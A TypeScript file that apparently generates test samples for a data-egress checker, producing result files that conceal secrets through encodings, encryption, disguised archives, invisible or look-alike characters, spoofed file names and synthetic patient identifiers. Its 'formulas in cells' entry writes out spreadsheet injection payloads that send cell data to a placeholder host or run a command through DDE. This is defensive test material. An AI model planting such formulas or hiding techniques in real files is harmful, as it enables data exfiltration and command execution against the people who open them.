import { createCipheriv } from 'node:crypto';
import zlib from 'node:zlib';

import { carry } from './carriers';
import type { CarrierType } from './carriers';
import * as payloads from './payloads';
import { between, inPieces, pick, secret } from './payloads';
import type { Random } from './payloads';

/** A file that should not leave. */
export interface Sample {
  name: string;
  content: Buffer;
}

type Make = (random: Random, type: CarrierType) => Sample;

const hide =
  (pieces: (random: Random) => string[]): Make =>
  (random, type) => ({ name: `results.${type}`, content: Buffer.from(carry(random, type, pieces(random))) });

const whole =
  (content: (random: Random) => Buffer): Make =>
  (random, type) => ({ name: `results.${type}`, content: content(random) });

const secretBytes = (random: Random) => Buffer.from(secret(random, between(random, 300, 2_000)));

const encrypted = (random: Random) => {
  const cipher = createCipheriv(
    'aes-256-ctr',
    payloads.randomBytes(random, 32),
    payloads.randomBytes(random, 16)
  );
  return Buffer.concat([cipher.update(secretBytes(random)), cipher.final()]);
};

/** Text whose characters are changed one by one. */
const woven =
  (weave: (text: string, bits: () => number, random: Random) => string): Make =>
  (random, type) => {
    const hidden = secretBytes(random);
    let at = 0;
    const bit = () => {
      const byte = hidden[(at >> 3) % hidden.length] as number;
      return (byte >> (at++ & 7)) & 1;
    };
    const words = Array.from({ length: 12 }, () => payloads.sentence(random));
    return { name: `results.${type}`, content: Buffer.from(weave(carry(random, type, words), bit, random)) };
  };

const renamed =
  (name: (type: CarrierType) => string): Make =>
  (random, type) => ({ name: name(type), content: Buffer.from(carry(random, type)) });

/** People, one on a row; in running text one on a line. */
function people(
  random: Random,
  type: CarrierType,
  fields: (random: Random) => Record<string, string>
): string {
  const rows = Array.from({ length: between(random, 30, 60) }, () => fields(random));
  const keys = Object.keys(rows[0] ?? {});
  const lines = (delimiter: string) =>
    [keys, ...rows.map((row) => keys.map((key) => row[key]))].map((row) => row.join(delimiter)).join('\n') +
    '\n';
  switch (type) {
    case 'csv':
      return lines(',');
    case 'tsv':
      return lines('\t');
    case 'json':
      return JSON.stringify(rows);
    case 'ndjson':
      return rows.map((row) => `${JSON.stringify(row)}\n`).join('');
    case 'md':
      return `| ${keys.join(' | ')} |\n|${keys.map(() => '---').join('|')}|\n${rows
        .map((row) => `| ${keys.map((key) => row[key]).join(' | ')} |\n`)
        .join('')}`;
    default:
      return rows.map((row) => keys.map((key) => `${key}: ${row[key]}`).join(', ')).join('\n') + '\n';
  }
}

const ofPeople =
  (fields: (random: Random) => Record<string, string>): Make =>
  (random, type) => ({ name: `results.${type}`, content: Buffer.from(people(random, type, fields)) });

const zip = (random: Random) => {
  const packed = zlib.deflateRawSync(secretBytes(random));
  const name = Buffer.from('data.csv');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  return Buffer.concat([local, name, packed, central, name, end]);
};

const headed = (head: string) => (random: Random) =>
  Buffer.concat([Buffer.from(head, 'latin1'), payloads.randomBytes(random, between(random, 300, 2_000))]);

const date = (random: Random) =>
  `${between(random, 1930, 2010)}-${String(between(random, 1, 12)).padStart(2, '0')}-${String(between(random, 1, 28)).padStart(2, '0')}`;

const LOOK_ALIKES: Readonly<Record<string, string>> = { a: 'а', e: 'е', o: 'о', c: 'с', p: 'р' };

/** Every way to hide something that issue and study name, as far as it can be done in a text or under its name. */
export const TECHNIQUES: Readonly<Record<string, Make>> = {
  'base64 in one piece': hide((random) => [secretBytes(random).toString('base64')]),
  'base64 for URLs': hide((random) => [secretBytes(random).toString('base64url')]),
  'base64 in lines': hide((random) => inPieces(secretBytes(random).toString('base64'), 76)),
  'base64 in small pieces': hide((random) =>
    inPieces(secretBytes(random).toString('base64'), between(random, 12, 20))
  ),
  'base64 of packed data': hide((random) => [zlib.gzipSync(secretBytes(random)).toString('base64')]),
  'base64 of base64': hide((random) => [
    Buffer.from(secretBytes(random).toString('base64')).toString('base64'),
  ]),
  base32: hide((random) => [payloads.base32(secretBytes(random))]),
  'base32 in lines': hide((random) => inPieces(payloads.base32(secretBytes(random)), 64)),
  hexadecimal: hide((random) => [secretBytes(random).toString('hex')]),
  'hexadecimal in lines': hide((random) => inPieces(secretBytes(random).toString('hex'), 64)),
  'hexadecimal in pairs': hide((random) =>
    inPieces(inPieces(secretBytes(random).toString('hex'), 2).join(' '), 48)
  ),
  'decimal bytes': hide((random) => [[...secretBytes(random)].join(' ')]),
  'binary digits': hide((random) =>
    inPieces([...secretBytes(random)].map((byte) => byte.toString(2).padStart(8, '0')).join(''), 64)
  ),
  escapes: hide((random) => [
    [...secretBytes(random)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join(''),
  ]),
  uuencode: hide((random) => payloads.uuencode(secretBytes(random)).split('\n')),
  'xor with a byte, as characters': hide((random) => [
    payloads.xor(secretBytes(random), between(random, 1, 0x1f)).toString('latin1'),
  ]),
  'xor with a byte, as hexadecimal': hide((random) => [
    payloads.xor(secretBytes(random), between(random, 1, 255)).toString('hex'),
  ]),
  'xor with a byte, as base64': hide((random) => [
    payloads.xor(secretBytes(random), between(random, 1, 255)).toString('base64'),
  ]),
  'xor with a byte, as it is': whole((random) =>
    payloads.xor(secretBytes(random), between(random, 0x80, 0xff))
  ),
  'a long random run': hide((random) => [
    payloads.randomBytes(random, between(random, 200, 900)).toString('base64url'),
  ]),
  'encrypted, as base64': hide((random) => [encrypted(random).toString('base64')]),
  'encrypted by OpenSSL': hide((random) =>
    inPieces(Buffer.concat([Buffer.from('Salted__'), encrypted(random)]).toString('base64'), 64)
  ),
  'encrypted by PGP': hide((random) => [
    '-----BEGIN PGP MESSAGE-----',
    '',
    ...inPieces(encrypted(random).toString('base64'), 64),
    '=abcd',
    '-----END PGP MESSAGE-----',
  ]),
  'a private key': hide((random) => [
    '-----BEGIN PRIVATE KEY-----',
    ...inPieces(payloads.randomBytes(random, 600).toString('base64'), 64),
    '-----END PRIVATE KEY-----',
  ]),
  'encrypted, as it is': whole(encrypted),
  'a zip under this name': whole(zip),
  'a gzip under this name': whole((random) => zlib.gzipSync(secretBytes(random))),
  'a 7z under this name': whole(headed('7z\xbc\xaf\x27\x1c\0\x04')),
  'a rar under this name': whole(headed('Rar!\x1a\x07\x01\0')),
  'a picture under this name': whole(headed('\x89PNG\r\n\x1a\n\0\0\0\rIHDR')),
  'a PDF under this name': whole(headed('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n')),
  'a workbook under this name': whole(headed('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')),
  'a pickle under this name': whole((random) =>
    Buffer.concat([
      Buffer.from('\x80\x04\x95', 'latin1'),
      payloads.randomBytes(random, 300),
      Buffer.from('.'),
    ])
  ),
  'a page with a script under this name': whole((random) =>
    Buffer.from(
      `<!DOCTYPE html>\n<html><body><p>${payloads.sentence(random)}</p><script>var a = ${JSON.stringify(secret(random, 300))};</script></body></html>\n`
    )
  ),
  'a zip after the text': (random, type) => ({
    name: `results.${type}`,
    content: Buffer.concat([Buffer.from(carry(random, type)), zip(random)]),
  }),
  'random bytes after the text': (random, type) => ({
    name: `results.${type}`,
    content: Buffer.concat([Buffer.from(carry(random, type)), payloads.randomBytes(random, 500)]),
  }),
  'NULs after the text': (random, type) => ({
    name: `results.${type}`,
    content: Buffer.concat([Buffer.from(carry(random, type)), Buffer.alloc(between(random, 1, 4_000))]),
  }),
  'zero-width bits': woven((text, bit) =>
    text.replace(/ (?=[a-z])/g, () => ` ${bit() ? '\u200B' : '\u200C'}`)
  ),
  'tag characters': woven((text, bit, random) =>
    text.replace(
      /[a-z]{4,}/,
      (word) =>
        word +
        Array.from({ length: 40 }, () =>
          String.fromCodePoint(0xe0020 + Math.floor(random() * 95) * (bit() | 1))
        ).join('')
    )
  ),
  'variation selectors': woven((text, bit) =>
    text.replace(/[a-z]{4,}/g, (word) => word + (bit() ? '\uFE00' : '\uFE01'))
  ),
  'look-alike letters': woven((text, bit) =>
    text.replace(/[aeocp](?=[a-z])/g, (letter) => (bit() ? (LOOK_ALIKES[letter] ?? letter) : letter))
  ),
  'blanks of other widths': woven((text, bit) =>
    text.replace(/ (?=[a-z])/g, () => (bit() ? (bit() ? '\u2009' : '\u2005') : bit() ? '\u2004' : ' '))
  ),
  'turned direction': woven((text) => text.replace(/[a-z]{5,}/g, (word) => `\u202E${word}\u202C`)),
  'control bytes': woven((text, bit) => text.replace(/ (?=[a-z])/g, () => (bit() ? ' \x01' : ' \x02'))),
  'two line ends': (random, type) => {
    const text = carry(
      random,
      type === 'json' ? 'ndjson' : type,
      Array.from({ length: 40 }, () => payloads.sentence(random))
    );
    const content = type === 'json' ? `[\n${text.trim().replaceAll('\n', ',\n')}\n]\n` : text;
    return {
      name: `results.${type}`,
      content: Buffer.from(content.replace(/\n/g, () => (random() < 0.5 ? '\r\n' : '\n'))),
    };
  },
  'blanks at line ends': (random, type) => {
    const text = carry(
      random,
      type === 'json' ? 'ndjson' : type,
      Array.from({ length: 40 }, () => payloads.sentence(random))
    );
    const content = type === 'json' ? `[\n${text.trim().replaceAll('\n', ',\n')}\n]\n` : text;
    return {
      name: `results.${type}`,
      content: Buffer.from(
        content.replace(
          /\n/g,
          () =>
            `${pick(random, ['', ' ', '  ', '   ', '    '])}${type === 'tsv' || random() < 0.5 ? '' : '\t'}\n`
        )
      ),
    };
  },
  'formulas in cells': (random, type) => ({
    name: `results.${type}`,
    content: Buffer.from(
      carry(
        random,
        type,
        Array.from({ length: 5 }, () =>
          pick(random, [
            '=WEBSERVICE("http://192.0.2.1/?"&A2)',
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://192.0.2.1/"&B2,"more")',
            '=IMPORTXML(CONCAT("http://192.0.2.1/",A2),"//a")',
          ])
        )
      )
    ),
  }),
  'NHS numbers': ofPeople((random) => ({
    nhs_number: payloads.nhsNumber(random),
    age: String(between(random, 18, 90)),
    outcome: pick(random, ['alive', 'dead']),
  })),
  'NHS numbers with blanks': ofPeople((random) => ({
    id: payloads.nhsNumber(random).replace(/(\d{3})(\d{3})/, '$1 $2 '),
    age: String(between(random, 18, 90)),
  })),
  'CHI numbers': ofPeople((random) => ({ chi: payloads.chiNumber(random), sex: pick(random, ['M', 'F']) })),
  'dates of birth': ofPeople((random) => ({
    study_id: `S${between(random, 10_000, 99_999)}`,
    date_of_birth: date(random),
    value: String(between(random, 1, 900)),
  })),
  'rows of single people': ofPeople((random) => ({
    patient_id: `P${between(random, 100_000, 999_999)}`,
    sex: pick(random, ['M', 'F']),
    age: String(between(random, 18, 90)),
    diagnosis: pick(random, ['asthma', 'stroke', 'sepsis']),
  })),
  'small counts': ofPeople((random) => ({
    region: pick(random, ['Tayside', 'Fife', 'Lothian', 'Grampian']),
    sex: pick(random, ['male', 'female']),
    patients: String(between(random, 1, 6)),
  })),
  'a second stream by name': renamed((type) => `results.${type}:rows.${type}`),
  'a turned name': renamed((type) => `results\u202E${[...type].reverse().join('')}.${type}`),
  'two extensions': renamed((type) => `scan.dcm.${type}`),
  'look-alike letters in the name': renamed((type) => `rеsults.${type}`),
  'the name of a picture': renamed(() => 'results.png'),
  'an empty file': (_, type) => ({ name: `results.${type}`, content: Buffer.alloc(0) }),
};
